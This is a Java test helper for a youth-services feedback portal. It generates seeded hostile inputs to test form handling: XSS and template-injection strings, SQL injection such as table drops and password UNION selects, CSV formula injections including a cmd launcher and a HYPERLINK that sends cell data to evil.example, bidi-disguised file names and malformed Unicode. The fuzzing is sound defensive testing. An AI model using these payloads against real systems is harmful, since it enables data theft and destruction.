package uk.coproduction.portal.security;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Hostile text, generated the same way on every run (fixed seed): markup and script, SQL, far too long, control
 * characters, text decoded from broken UTF-8 and lone surrogates, direction overrides, zero-width characters, emoji
 * and combining marks, spreadsheet formulas. Each piece is mixed with ordinary words, so the person's meaning and the
 * attack travel together as they would in a real form.
 */
final class HostileInputs {

    enum Kind {
        MARKUP,
        SQL,
        TOO_LONG,
        CONTROL,
        BROKEN_UTF8,
        BIDI,
        ZERO_WIDTH,
        EMOJI_COMBINING,
        CSV_FORMULA,
        MIXED
    }

    record Input(Kind kind, String text) {}

    static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(document.cookie)>",
            "javascript:alert(1)",
            "\"><svg onload=alert(1)>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"javascript:alert(1)\">click</a>",
            "</textarea><script>fetch('/x')</script>",
            "<body onload=alert(1)>",
            "<style>*{display:none}</style>",
            "{{constructor.constructor('alert(1)')()}}",
            "${7*7}",
            "#{7*7}",
            "<!--",
            "]]>",
            "<vaadin-button onclick=alert(1)>",
            "&lt;script&gt;",
            "&#x3C;script&#x3E;",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "data:text/html,<script>alert(1)</script>",
            "'';!--\"<XSS>=&{()}");
    static final List<String> SQL = List.of(
            "' OR 1=1 --",
            "'; DROP TABLE feedback; --",
            "\" OR \"\"=\"",
            "1; SELECT SLEEP(5)",
            "' UNION SELECT password FROM staff_account --",
            "admin'--",
            "\\'; DELETE FROM audit_event; --",
            "%' AND 1=0 UNION SELECT NULL,NULL --",
            "'); INSERT INTO feedback VALUES (1); --",
            "0x27 OR 0x31=0x31",
            "`; SHUTDOWN; --",
            "\\\\\\'",
            "' AND extractvalue(1,concat(0x7e,version())) --");
    static final List<String> CSV_FORMULA = List.of(
            "=cmd|' /C calc'!A0",
            "+SUM(1+1)",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A10)",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")",
            "\t=1+1",
            "\r=1+1",
            "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")",
            "\uFF1D1+1",
            "=1+1;=2+2");
    static final int[] CONTROLS = {
        0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F, 0x80, 0x85, 0x8D, 0x9B, 0x9F
    };
    static final int[] BIDI = {
        0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x061C
    };
    static final int[] ZERO_WIDTH = {0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x180E, 0x00AD};
    static final String[] EMOJI = {
        "\uD83D\uDE00",
        "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
        "\uD83C\uDFF3\uFE0F\u200D\uD83C\uDF08",
        "\uD83D\uDC4D\uD83C\uDFFD",
        "\u2764\uFE0F",
        "\uD83C\uDDEC\uD83C\uDDE7",
        "\u0645\u0631\u062D\u0628\u0627",
        "\u05E9\u05DC\u05D5\u05DD",
        "Za\u017C\u00F3\u0142\u0107 g\u0119\u015Bl\u0105 ja\u017A\u0144",
        "\uD835\uDD73\uD835\uDD8A\uD835\uDD91\uD835\uDD91\uD835\uDD94"
    };
    static final String[] WORDS = {
        "The staff were kind",
        "my mum said",
        "the minibus was late",
        "I liked the club",
        "nobody listened",
        "please change the times",
        "it was ok",
        "Polska szko\u0142a",
        "I am 14",
        "thank you"
    };
    private static final byte[][] BROKEN_UTF8 = {
        {(byte) 0xC3, 0x28},
        {(byte) 0xA0, (byte) 0xA1},
        {(byte) 0xE2, 0x28, (byte) 0xA1},
        {(byte) 0xF0, 0x28, (byte) 0x8C, (byte) 0xBC},
        {(byte) 0xC0, (byte) 0xAF},
        {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
        {(byte) 0xFF, (byte) 0xFE},
        {(byte) 0xF8, (byte) 0x88, (byte) 0x80}
    };

    private final Random random;
    private final int[] lengths;

    /** @param lengths the limits of the fields these inputs go to; "too long" texts are made around them */
    HostileInputs(long seed, int... lengths) {
        this.random = new Random(seed);
        this.lengths = lengths;
    }

    List<Input> next(int count) {
        List<Input> inputs = new ArrayList<>(count);
        Kind[] kinds = Kind.values();
        for (int i = 0; i < count; i++) {
            Kind kind = kinds[i % kinds.length];
            inputs.add(new Input(kind, of(kind)));
        }
        return inputs;
    }

    String of(Kind kind) {
        return switch (kind) {
            case MARKUP -> around(pick(MARKUP));
            case SQL -> around(pick(SQL));
            case CSV_FORMULA -> random.nextInt(3) == 0 ? pick(CSV_FORMULA) + " " + word() : pick(CSV_FORMULA);
            case TOO_LONG -> tooLong();
            case CONTROL -> sprinkle(word() + " " + word(), CONTROLS, 1 + random.nextInt(6));
            case BROKEN_UTF8 -> brokenUtf8();
            case BIDI -> bidi();
            case ZERO_WIDTH -> sprinkle(word(), ZERO_WIDTH, 1 + random.nextInt(5));
            case EMOJI_COMBINING -> emojiAndMarks();
            case MIXED -> mixed();
        };
    }

    private String around(String payload) {
        return switch (random.nextInt(4)) {
            case 0 -> payload;
            case 1 -> word() + " " + payload;
            case 2 -> payload + " " + word();
            default -> word() + payload + word();
        };
    }

    private String tooLong() {
        int limit = lengths[random.nextInt(lengths.length)];
        int length = switch (random.nextInt(5)) {
            case 0 -> limit;
            case 1 -> limit + 1;
            case 2 -> limit * 2;
            case 3 -> limit + 1 + random.nextInt(20_000);
            default -> limit - 1;
        };
        String unit = switch (random.nextInt(4)) {
            case 0 -> "a";
            case 1 -> "<script>alert(1)</script>";
            case 2 -> "\uD83D\uDE00";
            default -> "' OR 1=1 -- ";
        };
        StringBuilder text = new StringBuilder(length + unit.length());
        while (text.length() < length) {
            text.append(unit);
        }
        text.setLength(length);
        if (Character.isHighSurrogate(text.charAt(length - 1))) {
            text.setCharAt(length - 1, 'x');
        }
        return text.toString();
    }

    private String brokenUtf8() {
        if (random.nextBoolean()) {
            // Lone and back-to-front surrogates: what a broken client or a cut-off emoji sends.
            String[] lone = {"\uD800", "\uDFFF", "\uDC00\uD800", "\uD83D", "\uDE00"};
            return word() + pick(List.of(lone)) + word();
        }
        byte[] before = word().getBytes(StandardCharsets.UTF_8);
        byte[] broken = BROKEN_UTF8[random.nextInt(BROKEN_UTF8.length)];
        byte[] bytes = new byte[before.length + broken.length];
        System.arraycopy(before, 0, bytes, 0, before.length);
        System.arraycopy(broken, 0, bytes, before.length, broken.length);
        return new String(bytes, StandardCharsets.UTF_8);
    }

    private String bidi() {
        int override = BIDI[random.nextInt(BIDI.length)];
        // "exe.txt" shown as "txt.exe": the classic disguise.
        return random.nextBoolean()
                ? "invoice" + Character.toString(override) + "fdp.exe"
                : sprinkle(word() + " " + word(), BIDI, 1 + random.nextInt(4));
    }

    private String emojiAndMarks() {
        StringBuilder text = new StringBuilder(pick(List.of(EMOJI)));
        int marks = random.nextInt(40);
        text.append('a');
        for (int i = 0; i < marks; i++) {
            text.appendCodePoint(0x0300 + random.nextInt(0x70));
        }
        return text.append(' ').append(pick(List.of(EMOJI))).toString();
    }

    private String mixed() {
        Kind[] parts = {
            Kind.MARKUP,
            Kind.SQL,
            Kind.CONTROL,
            Kind.BIDI,
            Kind.ZERO_WIDTH,
            Kind.EMOJI_COMBINING,
            Kind.CSV_FORMULA,
            Kind.BROKEN_UTF8
        };
        StringBuilder text = new StringBuilder();
        int count = 2 + random.nextInt(3);
        for (int i = 0; i < count; i++) {
            text.append(of(parts[random.nextInt(parts.length)]));
            if (random.nextBoolean()) {
                text.append(random.nextBoolean() ? "\n" : "\t");
            }
        }
        if (random.nextInt(5) == 0) {
            text.insert(0, "   \n\t ");
        }
        return text.toString();
    }

    private String sprinkle(String text, int[] codePoints, int count) {
        StringBuilder out = new StringBuilder(text);
        for (int i = 0; i < count; i++) {
            int at = random.nextInt(out.length() + 1);
            if (at > 0 && at < out.length() && Character.isLowSurrogate(out.charAt(at))) {
                at++;
            }
            out.insert(at, Character.toString(codePoints[random.nextInt(codePoints.length)]));
        }
        return out.toString();
    }

    private String word() {
        return WORDS[random.nextInt(WORDS.length)];
    }

    private String pick(List<String> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    /** An e-mail-shaped text with hostile parts where they fit, so some are accepted and stored. */
    String emailShaped(Kind kind) {
        String local = of(kind).replaceAll("[\\s@]", "");
        if (local.isEmpty() || random.nextInt(3) == 0) {
            return of(kind);
        }
        return (local.length() > 60 ? local.substring(0, 60) : local) + "@example.org";
    }

    /** A phone-number-shaped text with hostile parts. */
    String phoneShaped(Kind kind) {
        return random.nextBoolean() ? "07700 900" + of(kind) : of(kind) + "07700 900 123";
    }

    /** Now and then a plausible code with hostile parts around it, for code look-ups. */
    String codeShaped(Kind kind, String realCode) {
        return switch (random.nextInt(4)) {
            case 0 -> realCode + of(kind);
            case 1 -> of(kind) + realCode;
            default -> of(kind);
        };
    }
}
